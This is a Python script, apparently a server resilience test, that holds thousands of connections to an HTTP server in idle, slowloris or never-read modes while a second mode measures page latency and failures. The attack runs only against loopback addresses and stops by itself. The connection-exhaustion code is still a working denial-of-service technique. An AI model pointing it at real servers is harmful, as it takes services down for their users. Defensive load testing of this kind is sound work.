#!/usr/bin/env python3
"""The two sides of flood.sh, each run as a process of its own.

attack: from one loopback address, keeps trying to hold COUNT connections to the server:
  idle      connects and sends nothing;
  slowloris sends a request's first lines at once, then one more header byte every 3 s;
  unread    asks for a page and never reads the answer.
  A connection the server closes is opened again, at most RATE a second. Runs for SECONDS.
view: page views from 127.0.0.1, one connection each, one after another; prints the latency
  percentiles and how many views failed.
Only loopback addresses are used; both loops end by themselves.
"""
import argparse
import errno
import selectors
import socket
import sys
import time

IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
SLOWLORIS_INTERVAL = 3.0


def target(address):
    host, port = address.rsplit(":", 1)
    return host, int(port)


def percentile(sorted_values, fraction):
    index = min(len(sorted_values) - 1, int(round(fraction * (len(sorted_values) - 1))))
    return sorted_values[index]


class Attack:
    def __init__(self, arguments):
        self.arguments = arguments
        self.server = target(arguments.server)
        self.selector = selectors.DefaultSelector()
        self.sockets = {}  # socket -> [connected, next byte time]
        self.opened = 0
        self.closed_by_server = 0
        self.connected_now = 0
        self.peak_connected = 0
        self.request = ("GET %s HTTP/1.1\r\nHost: a\r\n" % arguments.path).encode()

    def open_one(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        if self.arguments.mode == "unread":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.bind((self.arguments.source, 0))
        sock.setblocking(False)
        result = sock.connect_ex(self.server)
        if result not in (0, errno.EINPROGRESS):
            sock.close()
            return False
        self.sockets[sock] = [False, 0.0]
        self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        self.opened += 1
        return True

    def drop(self, sock, by_server):
        self.selector.unregister(sock)
        if self.sockets.pop(sock)[0]:
            self.connected_now -= 1
        sock.close()
        if by_server:
            self.closed_by_server += 1

    def connected(self, sock, now):
        state = self.sockets[sock]
        state[0] = True
        self.connected_now += 1
        self.peak_connected = max(self.peak_connected, self.connected_now)
        self.selector.modify(sock, selectors.EVENT_READ)
        mode = self.arguments.mode
        if mode == "slowloris":
            sock.send(self.request + b"X-Padding: ")
            state[1] = now + SLOWLORIS_INTERVAL
        elif mode == "unread":
            sock.send(self.request + b"\r\n")
            self.selector.unregister(sock)  # never reads; the server's closing goes unseen

    def on_event(self, sock, now):
        state = self.sockets[sock]
        if not state[0]:
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                return self.drop(sock, False)
            return self.connected(sock, now)
        try:
            if sock.recv(65536):
                return None
        except OSError:
            pass
        return self.drop(sock, True)

    def trickle(self, now):
        for sock, state in list(self.sockets.items()):
            if state[0] and state[1] and now >= state[1]:
                try:
                    sock.send(b"a")
                    state[1] = now + SLOWLORIS_INTERVAL
                except OSError:
                    self.drop(sock, True)

    def run(self):
        arguments = self.arguments
        end = time.monotonic() + arguments.seconds
        budget, budget_time = 0.0, time.monotonic()
        next_trickle = 0.0
        while (now := time.monotonic()) < end:
            budget = min(arguments.rate, budget + (now - budget_time) * arguments.rate)
            budget_time = now
            while len(self.sockets) < arguments.count and budget >= 1:
                budget -= 1
                if not self.open_one():
                    break
            for key, _ in self.selector.select(timeout=0.01):
                if key.fileobj in self.sockets:
                    self.on_event(key.fileobj, now)
            if arguments.mode == "slowloris" and now >= next_trickle:
                self.trickle(now)
                next_trickle = now + 0.5
        print("attack %s from %s: %d connections opened, %d closed by the server, at most %d "
              "open at once as it saw them" % (arguments.mode, arguments.source, self.opened,
                                               self.closed_by_server, self.peak_connected),
              flush=True)


def view_once(server, path, timeout):
    began = time.monotonic()
    with socket.create_connection(server, timeout=timeout,
                                  source_address=("127.0.0.1", 0)) as sock:
        sock.sendall(("GET %s HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" % path).encode())
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    if not answer.startswith(b"HTTP/1.1 200 "):
        raise OSError("answer: %r" % answer[:40])
    return time.monotonic() - began


def view(arguments):
    server = target(arguments.server)
    latencies, failures = [], 0
    for _ in range(arguments.views):
        try:
            latencies.append(view_once(server, arguments.path, arguments.timeout))
        except OSError as error:
            failures += 1
            print("view failed: %s" % error, file=sys.stderr)
        time.sleep(arguments.pause)
    latencies.sort()
    if not latencies:
        print("views: all %d failed" % failures)
        return 1
    print("views: %d answered, %d failed; ms p50 %.1f p90 %.1f p99 %.1f max %.1f" % (
        len(latencies), failures,
        *(1000 * percentile(latencies, f) for f in (0.5, 0.9, 0.99)), 1000 * latencies[-1]),
        flush=True)
    return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(dest="command", required=True)
    attack = commands.add_parser("attack")
    attack.add_argument("server", help="HOST:PORT on loopback")
    attack.add_argument("--mode", choices=("idle", "slowloris", "unread"), default="idle")
    attack.add_argument("--source", default="127.0.0.2")
    attack.add_argument("--count", type=int, default=3000)
    attack.add_argument("--rate", type=float, default=1000, help="new connections a second")
    attack.add_argument("--seconds", type=float, default=20)
    attack.add_argument("--path", default="/")
    views = commands.add_parser("view")
    views.add_argument("server", help="HOST:PORT on loopback")
    views.add_argument("--path", default="/")
    views.add_argument("--views", type=int, default=500)
    views.add_argument("--pause", type=float, default=0.01)
    views.add_argument("--timeout", type=float, default=5)
    arguments = parser.parse_args()
    for address in (target(arguments.server)[0], getattr(arguments, "source", "127.0.0.1")):
        if not address.startswith("127."):
            parser.error("only loopback addresses: " + address)
    if arguments.command == "attack":
        Attack(arguments).run()
        return 0
    return view(arguments)


if __name__ == "__main__":
    sys.exit(main())
